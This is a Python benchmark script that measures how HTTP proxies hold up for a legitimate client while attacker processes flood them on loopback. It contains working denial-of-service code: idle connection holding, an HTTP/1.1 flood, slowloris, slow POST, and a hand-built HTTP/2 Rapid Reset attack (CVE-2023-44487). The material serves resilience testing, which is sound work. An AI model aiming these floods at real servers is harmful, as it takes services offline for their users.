"""The clients behind bench/flood.sh: a legitimate client measured while attackers flood a
proxy on loopback, one scenario at a time, and the report that puts the proxies side by side.

  flood.py scenario --name NAME --kind KIND --port P ...   # one scenario, one JSON line out
  flood.py attack --kind KIND ...                         # one attacker process (spawned)
  flood.py report RESULTS.jsonl                           # the tables

Kinds of attack (each from its own range of 127.0.0.0/8 source addresses, so per-IP limits
can tell the attackers from the legitimate client on 127.0.0.1):
  none        nothing: the unloaded baseline
  idle        connections held open sending nothing, or a partial request line; reopened
              as soon as the proxy closes them
  h1flood     keep-alive HTTP/1.1 GETs as fast as the proxy answers, one in flight per
              connection (Pingora closes a connection whose client pipelines)
  slow        slowloris (a header block one byte every few seconds) and slow POST (a large
              Content-Length, the body one byte every few seconds), half each
  rapidreset  HTTP/2 prior knowledge: HEADERS then RST_STREAM(CANCEL) for stream after
              stream as fast as the connection takes them (CVE-2023-44487)

The legitimate client sends GETs with an API key at a fixed rate (open loop: latency is
measured from each request's scheduled time, so a stalled proxy shows up in it) over a few
keep-alive connections, each closed after a number of requests so new ones are opened too.
Only the Python standard library is used; HTTP/2 frames are built by hand.
"""
import argparse, asyncio, ctypes, json, math, os, re, signal, socket, struct, subprocess, sys, time

# ---------------------------------------------------------------------------------------
# common


def addresses(net, n):
    """n source addresses in 127.NET.0.0/16 (127.NET.x.1-200)."""
    return [f"127.{net}.{i // 200}.{i % 200 + 1}" for i in range(n)]


def percentile(sorted_vals, q):
    if not sorted_vals:
        return None
    return sorted_vals[min(len(sorted_vals) - 1, max(0, math.ceil(q * len(sorted_vals)) - 1))]


def rss_kib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


def cpu_ticks(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return int(fields[11]) + int(fields[12])  # utime + stime (fields 14 and 15)
    except (OSError, IndexError, ValueError):
        return None


def established(ports):
    """Established TCP connections whose local port is one of ports (the proxy's side)."""
    want = {f"{p:04X}" for p in ports}
    n = 0
    for path in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(path) as f:
                next(f)
                for line in f:
                    parts = line.split(None, 4)
                    if parts[3] == "01" and parts[1].rsplit(":", 1)[1] in want:
                        n += 1
        except OSError:
            pass
    return n


class Stats(dict):
    def add(self, key, n=1):
        self[key] = self.get(key, 0) + n

    def status(self, code):
        self.add(f"status_{code}")


def die_with_parent():
    """Attackers end when the scenario process that spawned them does (PR_SET_PDEATHSIG)."""
    try:
        ctypes.CDLL("libc.so.6", use_errno=True).prctl(1, signal.SIGKILL)
    except OSError:
        pass
    os.nice(int(os.environ.get("FLOOD_ATTACK_NICE", "10")))


async def open_from(src, host, port, timeout=5.0):
    return await asyncio.wait_for(
        asyncio.open_connection(host, port, local_addr=(src, 0), limit=1 << 16), timeout)


_CL = re.compile(rb"\ncontent-length:[ \t]*(\d+)")


async def read_response(reader):
    """One HTTP/1.1 response: (status, connection closes after it)."""
    head = await reader.readuntil(b"\r\n\r\n")
    status = int(head[9:12])
    lower = head.lower()
    close = b"\nconnection: close" in lower
    if re.search(rb"\ntransfer-encoding:[^\r]*chunked", lower):
        while True:
            line = await reader.readuntil(b"\r\n")
            size = int(line.split(b";")[0].strip(), 16)
            if size == 0:
                while await reader.readuntil(b"\r\n") != b"\r\n":
                    pass
                break
            await reader.readexactly(size + 2)
    else:
        m = _CL.search(lower)
        if m:
            await reader.readexactly(int(m.group(1)))
        elif status >= 200 and status not in (204, 304):
            await reader.read()  # delimited by the close
            close = True
    return status, close


# ---------------------------------------------------------------------------------------
# the legitimate client


class Legit:
    def __init__(self, host, port, rate, dur, key, warm=0.0, max_conns=16, reuse=100, timeout=5.0):
        """Requests scheduled in the first `warm` seconds are sent but not counted."""
        self.host, self.port, self.rate, self.dur, self.key = host, port, rate, dur, key
        self.warm = warm
        self.reuse, self.timeout = reuse, timeout
        self.idle = []  # (reader, writer, requests sent on it)
        self.slots = asyncio.Semaphore(max_conns)  # stays under max_connections_per_ip
        self.lat = []  # seconds, every request (a failure at the time it failed)
        self.ok_lat = []
        self.stats = Stats()
        self.conns_opened = 0

    def request(self, i, last):
        return (f"GET /api/items?id={i} HTTP/1.1\r\nHost: bench.test\r\nX-API-Key: {self.key}\r\n"
                f"User-Agent: legit-client/1.0\r\nAccept: application/json\r\n"
                f"{'Connection: close' + chr(13) + chr(10) if last else ''}\r\n").encode()

    def take(self, now):
        """A kept-alive connection used within the last 4 s (proxies close idle ones: Rampart
        after request_header_timeout), or None."""
        while self.idle:
            conn = self.idle.pop()
            if now - conn[3] < 4.0:
                return conn
            conn[1].close()
        return None

    async def one(self, i, sched, counted):
        loop = asyncio.get_running_loop()
        async with self.slots:
            status, err, conn = None, None, None
            try:
                async with asyncio.timeout(self.timeout):
                    for _ in range(2):
                        conn = self.take(loop.time())
                        reused = conn is not None
                        if conn is None:
                            r, w = await asyncio.open_connection(
                                self.host, self.port, local_addr=("127.0.0.1", 0))
                            conn = [r, w, 0, 0.0]
                            self.conns_opened += 1
                        conn[2] += 1
                        last = conn[2] >= self.reuse
                        try:
                            conn[1].write(self.request(i, last))
                            status, close = await read_response(conn[0])
                        except (ConnectionResetError, BrokenPipeError, asyncio.IncompleteReadError) as e:
                            # a kept-alive connection closed under us before any answer: retry
                            # once on a new one, as HTTP clients do
                            if reused and not getattr(e, "partial", b""):
                                conn[1].close()
                                conn = None
                                if counted:
                                    self.stats.add("stale_retried")
                                continue
                            raise
                        break
                if close or last:
                    conn[1].close()
                else:
                    conn[3] = loop.time()
                    self.idle.append(conn)
                conn = None
            except TimeoutError:
                err = "timeout"
            except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError) as e:
                err = "reset" if isinstance(e, ConnectionResetError) else (
                    "closed" if isinstance(e, asyncio.IncompleteReadError) else type(e).__name__)
            if conn is not None:
                conn[1].close()
            if not counted:
                return
            took = loop.time() - sched
            self.lat.append(took)
            if status is not None and 200 <= status < 300:
                self.stats.add("ok")
                self.ok_lat.append(took)
            elif status is not None:
                self.stats.status(status)
            else:
                self.stats.add(err)

    async def run(self):
        loop = asyncio.get_running_loop()
        n = max(1, int(self.rate * self.dur))
        n_warm = int(self.rate * self.warm)
        t0 = loop.time() + 0.05
        tasks = []
        for i in range(n_warm + n):
            sched = t0 + i / self.rate
            delay = sched - loop.time()
            if delay > 0:
                await asyncio.sleep(delay)
            tasks.append(asyncio.create_task(self.one(i, sched, i >= n_warm)))
        await asyncio.gather(*tasks)
        for conn in self.idle:
            conn[1].close()
        lat = sorted(self.lat)
        fails = {k: v for k, v in self.stats.items() if k not in ("ok", "stale_retried")}
        return {
            "sent": n, "ok": self.stats.get("ok", 0), "ok_pct": 100.0 * self.stats.get("ok", 0) / n,
            "failures": fails, "conns_opened": self.conns_opened,  # warm-up included
            "stale_retried": self.stats.get("stale_retried", 0),
            "p50_ms": 1e3 * percentile(lat, 0.50), "p99_ms": 1e3 * percentile(lat, 0.99),
            "max_ms": 1e3 * lat[-1],
        }


# ---------------------------------------------------------------------------------------
# attackers: each runs until its deadline, then prints its counters as one JSON line


class Attack:
    def __init__(self, a):
        self.a = a
        self.stats = Stats()
        self.held = 0  # connections open now (client's view)
        self.held_peak = 0
        self.hold_times = []  # seconds each connection lasted until the proxy closed it
        self.deadline = None

    def opened(self):
        self.stats.add("conns_opened")
        self.held += 1
        self.held_peak = max(self.held_peak, self.held)

    def closed(self, t0, by_server=True):
        self.held -= 1
        if by_server:
            self.stats.add("closed_by_proxy")
            if len(self.hold_times) < 200000:
                self.hold_times.append(time.monotonic() - t0)

    def left(self):
        return self.deadline - asyncio.get_running_loop().time()

    def result(self):
        out = dict(self.stats)
        out["held_peak"] = self.held_peak
        out["held_end"] = self.held
        if self.hold_times:
            h = sorted(self.hold_times)
            out["hold_p50_s"] = percentile(h, 0.5)
            out["hold_n"] = len(h)
        return out


class IdleAttack(Attack):
    """Connections that never complete a request: half send nothing, half a partial request
    line; each is reopened as soon as the proxy closes it."""

    async def conn(self, src, partial, start):
        await asyncio.sleep(start)
        while self.left() > 0:
            try:
                r, w = await open_from(src, self.a.host, self.a.port)
            except (OSError, TimeoutError):
                self.stats.add("connect_failed")
                await asyncio.sleep(0.5)
                continue
            self.opened()
            t0 = time.monotonic()
            by_server = True
            try:
                if partial:
                    w.write(b"GET /idle/" + src.encode() + b" HTT")
                data = await asyncio.wait_for(r.read(4096), max(0.01, self.left()))
                if data[:5] == b"HTTP/":
                    self.stats.status(int(data[9:12]))
            except TimeoutError:
                by_server = False
            except OSError:
                self.stats.add("reset")
            self.closed(t0, by_server)
            w.close()
            if by_server:
                await asyncio.sleep(0.05)

    async def run(self):
        a = self.a
        srcs = addresses(a.net, a.ips)
        jobs = []
        for i in range(a.conns):
            if i % a.parts != a.part:
                continue
            # spread the opening over the ramp, so the listen backlog is not the limit
            jobs.append(self.conn(srcs[i % len(srcs)], i % 2 == 1, a.ramp * 0.8 * i / a.conns))
        await asyncio.gather(*jobs)


class FloodProto(asyncio.Protocol):
    REQ = b"GET /search?q=flood HTTP/1.1\r\nHost: bench.test\r\nUser-Agent: Mozilla/5.0 (flood)\r\nAccept: */*\r\n\r\n"

    def __init__(self, atk, done):
        self.atk, self.done, self.buf, self.t, self.t0 = atk, done, bytearray(), None, None

    def connection_made(self, t):
        self.t, self.t0 = t, time.monotonic()
        self.atk.opened()
        self.send()

    def send(self):
        if self.atk.left() > 0:
            self.t.write(self.REQ)
            self.atk.stats.add("sent")

    def data_received(self, data):
        buf = self.buf
        buf += data
        st = self.atk.stats
        while True:
            end = buf.find(b"\r\n\r\n")
            if end < 0:
                return
            head = bytes(buf[:end]).lower()
            m = _CL.search(head)
            if m is None and b"chunked" in head:
                # not expected from either proxy for these answers; give up on the connection
                st.add("unparsed")
                self.t.close()
                return
            total = end + 4 + (int(m.group(1)) if m else 0)
            if len(buf) < total:
                return
            code = int(head[9:12])
            st.status(code)
            del buf[:total]
            if b"\nconnection: close" in head:
                return  # the proxy will close; connection_lost reconnects
            self.send()

    def connection_lost(self, exc):
        self.atk.closed(self.t0, self.atk.left() > 0)
        if exc is not None:
            self.atk.stats.add("reset")
        if not self.done.done():
            self.done.set_result(None)


class Reconnecting(Attack):
    """Connections from every source address, each reopened as soon as it ends."""
    proto = None  # the asyncio.Protocol class, built as proto(attack, done_future)

    def port(self):
        return self.a.port

    async def conn(self, src):
        loop = asyncio.get_running_loop()
        while self.left() > 0:
            done = loop.create_future()
            try:
                t, _ = await asyncio.wait_for(loop.create_connection(
                    lambda: self.proto(self, done), self.a.host, self.port(), local_addr=(src, 0)), 5)
            except (OSError, TimeoutError):
                self.stats.add("connect_failed")
                await asyncio.sleep(0.2)
                continue
            try:
                await asyncio.wait_for(done, max(0.01, self.left()))
            except TimeoutError:
                t.abort()
                return
            await asyncio.sleep(0.01)

    async def run(self):
        a = self.a
        srcs = [s for i, s in enumerate(addresses(a.net, a.ips)) if i % a.parts == a.part]
        await asyncio.gather(*(self.conn(s) for s in srcs for _ in range(a.per_ip)))


class H1Flood(Reconnecting):
    proto = FloodProto


class SlowAttack(Attack):
    """Slowloris (header bytes) and slow POST (body bytes), one byte every `interval` s."""

    async def conn(self, src, post, start):
        await asyncio.sleep(start)
        head = b"GET /slow HTTP/1.1\r\nHost: bench.test\r\nUser-Agent: Mozilla/5.0 (slow)\r\n"
        if post:
            head = (b"POST /upload HTTP/1.1\r\nHost: bench.test\r\nUser-Agent: Mozilla/5.0 (slow)\r\n"
                    b"Content-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n")
        drip = b"X-Slow: " + b"a" * 50 + b"\r\n"
        kind = "post" if post else "loris"
        while self.left() > 0:
            try:
                r, w = await open_from(src, self.a.host, self.a.port)
            except (OSError, TimeoutError):
                self.stats.add("connect_failed")
                await asyncio.sleep(0.5)
                continue
            self.opened()
            self.stats.add(f"{kind}_opened")
            t0 = time.monotonic()

            async def trickle():
                w.write(head)
                i = 0
                while True:
                    await asyncio.sleep(self.a.interval)
                    w.write(b"x" if post else drip[i % len(drip):i % len(drip) + 1])
                    self.stats.add("bytes_trickled")
                    i += 1
                    await w.drain()

            tr = asyncio.create_task(trickle())
            by_server = True
            try:
                data = await asyncio.wait_for(r.read(4096), max(0.01, self.left()))
                if data[:5] == b"HTTP/":
                    self.stats.status(int(data[9:12]))
            except TimeoutError:
                by_server = False
            except OSError:
                self.stats.add("reset")
            tr.cancel()
            try:
                await tr
            except (asyncio.CancelledError, OSError):
                pass
            self.closed(t0, by_server)
            if by_server:
                self.stats.add(f"{kind}_cut")
            w.close()
            if by_server:
                await asyncio.sleep(0.05)

    async def run(self):
        a = self.a
        srcs = addresses(a.net, a.ips)
        jobs = [self.conn(srcs[i % len(srcs)], i % 2 == 1, a.ramp * 0.8 * i / a.conns)
                for i in range(a.conns) if i % a.parts == a.part]
        await asyncio.gather(*jobs)


def h2_frame(kind, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", sid) + payload


H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# HPACK, static table only, so every block is the same bytes: :method GET (2), :scheme http
# (6), :path / (4), :authority literal without indexing (name index 1).
H2_BLOCK = b"\x82\x86\x84\x01" + bytes((len(b"bench.test"),)) + b"bench.test"
RST_CANCEL = struct.pack(">I", 8)


class RapidResetProto(asyncio.Protocol):
    BATCH = 32

    def __init__(self, atk, done):
        self.atk, self.done = atk, done
        self.buf, self.t, self.sid, self.paused, self.scheduled = bytearray(), None, 1, False, False
        self.goaway = False

    def connection_made(self, t):
        self.t, self.t0 = t, time.monotonic()
        self.atk.opened()
        t.write(H2_PREFACE + h2_frame(4, 0, 0))
        self.pump()

    def pump(self):
        self.scheduled = False
        if self.paused or self.goaway or self.t.is_closing() or self.atk.left() <= 0:
            return
        out = bytearray()
        n = 0
        while n < self.BATCH and self.sid < 0x7FFFFFF0:
            out += h2_frame(1, 0x05, self.sid, H2_BLOCK)  # END_STREAM | END_HEADERS
            out += h2_frame(3, 0, self.sid, RST_CANCEL)
            self.sid += 2
            n += 1
        if n == 0:
            self.t.close()  # stream ids used up: a new connection
            return
        self.t.write(out)
        self.atk.stats.add("streams_reset", n)
        self.scheduled = True
        asyncio.get_running_loop().call_soon(self.pump)

    def pause_writing(self):
        self.paused = True

    def resume_writing(self):
        self.paused = False
        if not self.scheduled:
            self.pump()

    def data_received(self, data):
        buf = self.buf
        buf += data
        st = self.atk.stats
        while len(buf) >= 9:
            n = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + n:
                break
            kind, flags = buf[3], buf[4]
            payload = bytes(buf[9:9 + n])
            del buf[:9 + n]
            if kind == 4 and not flags & 1:
                self.t.write(h2_frame(4, 1, 0))  # SETTINGS ACK
            elif kind == 6 and not flags & 1:
                self.t.write(h2_frame(6, 1, 0, payload))  # PING ACK
            elif kind == 7:
                st.add("goaway")
                self.goaway = True
            elif kind == 1:
                st.add("responses")
            elif kind == 3:
                st.add("rst_from_proxy")

    def connection_lost(self, exc):
        self.atk.closed(self.t0, self.atk.left() > 0)
        if not self.done.done():
            self.done.set_result(None)


class RapidReset(Reconnecting):
    proto = RapidResetProto

    def port(self):
        return self.a.h2port or self.a.port


ATTACKS = {"idle": IdleAttack, "h1flood": H1Flood, "slow": SlowAttack, "rapidreset": RapidReset}


async def attack_main(a):
    atk = ATTACKS[a.kind](a)
    atk.deadline = asyncio.get_running_loop().time() + a.dur
    try:
        await asyncio.wait_for(atk.run(), a.dur + 10)
    except TimeoutError:
        pass
    print(json.dumps(atk.result()), flush=True)


def cmd_attack(a):
    asyncio.run(attack_main(a))
    os._exit(0)  # do not wait for sockets the proxy keeps half-open


# ---------------------------------------------------------------------------------------
# one scenario: attackers in child processes, the legitimate client and the samplers here


async def scenario_main(a):
    pids = [int(p) for p in a.pid.split(",") if p]
    ports = [int(p) for p in a.ports.split(",") if p]
    rss_before = [rss_kib(p) for p in pids]
    rss_before = sum(rss_before) if all(v is not None for v in rss_before) else None
    attackers = []
    if a.kind != "none":
        for part in range(a.procs):
            argv = [sys.executable, os.path.abspath(__file__), "attack", "--kind", a.kind,
                    "--host", a.host, "--port", str(a.port), "--dur", str(a.ramp + a.dur + 0.5),
                    "--ramp", str(a.ramp), "--net", str(a.net), "--ips", str(a.ips),
                    "--per-ip", str(a.per_ip), "--conns", str(a.conns), "--interval", str(a.interval),
                    "--part", str(part), "--parts", str(a.procs)]
            if a.h2port:
                argv += ["--h2port", str(a.h2port)]
            attackers.append(await asyncio.create_subprocess_exec(
                *argv, stdout=asyncio.subprocess.PIPE, preexec_fn=die_with_parent))

    # The legitimate client starts with the attack; what it sends during the ramp warms it
    # up and is not counted. RSS and connections are sampled from the start, CPU over the
    # measured part only.
    rss, held = [], []
    stop = asyncio.Event()

    async def sample():
        i = 0
        while not stop.is_set():
            vals = [rss_kib(p) for p in pids]
            if vals and all(v is not None for v in vals):
                rss.append(sum(vals))
            if i % 5 == 0 and ports:
                held.append(established(ports))
            i += 1
            try:
                await asyncio.wait_for(stop.wait(), 0.2)
            except TimeoutError:
                pass

    sampler = asyncio.create_task(sample())
    legit_task = asyncio.create_task(Legit(a.host, a.port, a.rate, a.dur, a.key, warm=a.ramp).run())
    await asyncio.sleep(a.ramp)
    cpu0 = [cpu_ticks(p) for p in pids]
    t_cpu0 = time.monotonic()
    legit = await legit_task
    cpu1 = [cpu_ticks(p) for p in pids]
    wall = time.monotonic() - t_cpu0
    stop.set()
    await sampler
    cpu_pct = None
    if pids and all(x is not None for x in cpu0 + cpu1):
        cpu_pct = 100.0 * (sum(cpu1) - sum(cpu0)) / os.sysconf("SC_CLK_TCK") / wall

    attack = Stats()
    holds = []
    for p in attackers:
        try:
            out, _ = await asyncio.wait_for(p.communicate(), 15)
            r = json.loads(out.decode().strip().splitlines()[-1])
        except (TimeoutError, ValueError, IndexError):
            p.kill()
            await p.wait()
            attack.add("attacker_lost")
            continue
        for k, v in r.items():
            if k == "hold_p50_s":
                holds.append(v)
            elif isinstance(v, (int, float)):
                attack.add(k, v)
    if holds:  # the median of the processes' medians: good enough for a report
        attack["hold_p50_s"] = sorted(holds)[len(holds) // 2]
    return {
        "proxy": a.proxy, "scenario": a.name, "kind": a.kind, "dur": a.dur, "rate": a.rate,
        "legit": legit, "attack": dict(attack),
        "rss_before_mib": rss_before / 1024 if rss_before else None,
        "rss_peak_mib": max(rss) / 1024 if rss else None,
        "rss_end_mib": rss[-1] / 1024 if rss else None,
        "proxy_conns_peak": max(held) if held else None,
        "proxy_cpu_pct": cpu_pct,
    }


def cmd_scenario(a):
    res = asyncio.run(scenario_main(a))
    if a.baseline_p99:
        res["baseline_p99_ms"] = a.baseline_p99
        res["p99_ratio"] = res["legit"]["p99_ms"] / a.baseline_p99 if a.baseline_p99 > 0 else None
    judge(res)
    print(describe(res), flush=True)
    if a.out:
        with open(a.out, "a") as f:
            f.write(json.dumps(res) + "\n")


# ---------------------------------------------------------------------------------------
# judging and reporting

OK_GOAL = 99.0
P99_GOAL = 5.0


def judge(r):
    fails = []
    if r["legit"]["ok_pct"] < OK_GOAL:
        fails.append(f"success {r['legit']['ok_pct']:.2f}% < {OK_GOAL:g}%")
    if r.get("p99_ratio") is not None and r["p99_ratio"] > P99_GOAL:
        fails.append(f"p99 {r['p99_ratio']:.1f}x unloaded > {P99_GOAL:g}x")
    r["goals_failed"] = fails
    r["verdict"] = "baseline" if r["kind"] == "none" else ("PASS" if not fails else "FAIL")


def fmt_fail(f):
    return ", ".join(f"{k.replace('status_', '')}:{v}" for k, v in sorted(f.items())) or "-"


def attack_summary(r):
    t = r["attack"]
    k = r["kind"]
    g = lambda key: int(t.get(key, 0))
    statuses = {key[7:]: int(v) for key, v in t.items() if key.startswith("status_")}
    ok2xx = sum(v for c, v in statuses.items() if c.startswith("2"))
    refused = sum(v for c, v in statuses.items() if not c.startswith("2"))
    codes = " ".join(f"{c}:{v}" for c, v in sorted(statuses.items()))
    if k == "none":
        return "-"
    if k == "h1flood":
        return (f"sent {g('sent')}, answered 2xx {ok2xx}, refused {refused} ({codes}), "
                f"conns {g('conns_opened')} opened / {g('closed_by_proxy')} closed by proxy, "
                f"connect failures {g('connect_failed')}")
    if k == "rapidreset":
        return (f"streams opened+reset {g('streams_reset')}, responses {g('responses')}, "
                f"GOAWAY {g('goaway')}, conns {g('conns_opened')} opened / {g('closed_by_proxy')} closed "
                f"by proxy, connect failures {g('connect_failed')}")
    hold = t.get("hold_p50_s")
    hold = f"{hold:.1f} s" if hold is not None else "never cut"
    extra = ""
    if k == "slow":
        extra = (f" (slowloris {g('loris_opened')} opened / {g('loris_cut')} cut, slow POST "
                 f"{g('post_opened')} / {g('post_cut')})")
    return (f"held peak {g('held_peak')} (at end {g('held_end')}), opened {g('conns_opened')}, "
            f"closed by proxy {g('closed_by_proxy')}{extra}, median hold {hold}, "
            f"answers {codes or 'none'}, connect failures {g('connect_failed')}")


def describe(r):
    L = r["legit"]
    ratio = f"{r['p99_ratio']:.1f}x unloaded" if r.get("p99_ratio") is not None else "unloaded"
    rss = (f"{r['rss_peak_mib']:.1f} MiB peak ({r['rss_before_mib']:.1f} before the attack, "
           f"{r['rss_end_mib']:.1f} at the end)") if r["rss_peak_mib"] else "?"
    cpu = f"{r['proxy_cpu_pct']:.0f}%" if r["proxy_cpu_pct"] is not None else "?"
    verdict = r["verdict"] + (": " + "; ".join(r["goals_failed"]) if r["goals_failed"] and r["kind"] != "none" else "")
    return (f"[{r['proxy']}] {r['scenario']}: {verdict}\n"
            f"  legit   {L['ok']}/{L['sent']} ok ({L['ok_pct']:.2f}%), failures {fmt_fail(L['failures'])}; "
            f"p50 {L['p50_ms']:.1f} ms, p99 {L['p99_ms']:.1f} ms ({ratio}), max {L['max_ms']:.0f} ms; "
            f"{L['conns_opened']} connections opened"
            f"{', %d stale keep-alive retries' % L['stale_retried'] if L.get('stale_retried') else ''}\n"
            f"  attack  {attack_summary(r)}\n"
            f"  proxy   RSS {rss}, CPU {cpu}, established connections peak {r['proxy_conns_peak']}")


def cmd_report(a):
    rows = [json.loads(l) for l in open(a.results) if l.strip()]
    proxies = list(dict.fromkeys(r["proxy"] for r in rows))
    scenarios = list(dict.fromkeys(r["scenario"] for r in rows))
    by = {(r["proxy"], r["scenario"]): r for r in rows}
    print(f"Goals per scenario: legit success >= {OK_GOAL:g}%, legit p99 <= {P99_GOAL:g}x its unloaded p99; "
          f"RSS reported.")
    print()
    print("| scenario | " + " | ".join(f"{p}: legit ok, p99 (x unloaded), RSS peak, CPU" for p in proxies) + " |")
    print("|---|" + "---|" * len(proxies))
    for s in scenarios:
        cells = []
        for p in proxies:
            r = by.get((p, s))
            if r is None:
                cells.append("-")
                continue
            L = r["legit"]
            ratio = f" ({r['p99_ratio']:.1f}x)" if r.get("p99_ratio") is not None else ""
            rss = f"{r['rss_peak_mib']:.0f} MiB" if r["rss_peak_mib"] else "?"
            cpu = f"{r['proxy_cpu_pct']:.0f}%" if r["proxy_cpu_pct"] is not None else "?"
            v = "" if r["kind"] == "none" else (" **PASS**" if r["verdict"] == "PASS" else " **FAIL**")
            cells.append(f"{L['ok_pct']:.1f}%, {L['p99_ms']:.1f} ms{ratio}, {rss}, {cpu}{v}")
        print(f"| {s} | " + " | ".join(cells) + " |")
    print()
    failed = [(r["proxy"], r["scenario"], r["goals_failed"]) for r in rows if r["verdict"] == "FAIL"]
    if failed:
        print("Goals failed:")
        for p, s, f in failed:
            print(f"  {p} / {s}: {'; '.join(f)}")
    else:
        print("All goals met.")
    print()
    print("Attackers, per proxy:")
    for s in scenarios:
        for p in proxies:
            r = by.get((p, s))
            if r is not None and r["kind"] != "none":
                print(f"  {s} / {p}: {attack_summary(r)}")


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    for name in ("scenario", "attack"):
        p = sub.add_parser(name)
        p.add_argument("--kind", required=True, choices=["none", *ATTACKS])
        p.add_argument("--host", default="127.0.0.1")
        p.add_argument("--port", type=int, required=True, help="HTTP/1 port (the legit client's)")
        p.add_argument("--h2port", type=int, default=0, help="h2c port for rapidreset, if not --port")
        p.add_argument("--dur", type=float, default=20)
        p.add_argument("--ramp", type=float, default=3, help="seconds the attack runs before measuring")
        p.add_argument("--net", type=int, default=1, help="attackers' addresses: 127.NET.0.0/16")
        p.add_argument("--ips", type=int, default=64)
        p.add_argument("--per-ip", type=int, default=4, help="connections per address (h1flood, rapidreset)")
        p.add_argument("--conns", type=int, default=1000, help="connections in all (idle, slow)")
        p.add_argument("--interval", type=float, default=2.0, help="seconds between slow bytes")
        p.add_argument("--part", type=int, default=0)
        p.add_argument("--parts", type=int, default=1)
        if name == "scenario":
            p.add_argument("--name", required=True)
            p.add_argument("--proxy", required=True)
            p.add_argument("--procs", type=int, default=1, help="attacker processes")
            p.add_argument("--pid", default="", help="proxy pids to sample (RSS summed, CPU)")
            p.add_argument("--ports", default="", help="proxy ports to count connections on")
            p.add_argument("--rate", type=float, default=25, help="legit requests/s")
            p.add_argument("--key", default="")
            p.add_argument("--baseline-p99", type=float, default=0)
            p.add_argument("--out", default="")
    p = sub.add_parser("report")
    p.add_argument("results")
    a = ap.parse_args()
    {"scenario": cmd_scenario, "attack": cmd_attack, "report": cmd_report}[a.cmd](a)


if __name__ == "__main__":
    main()
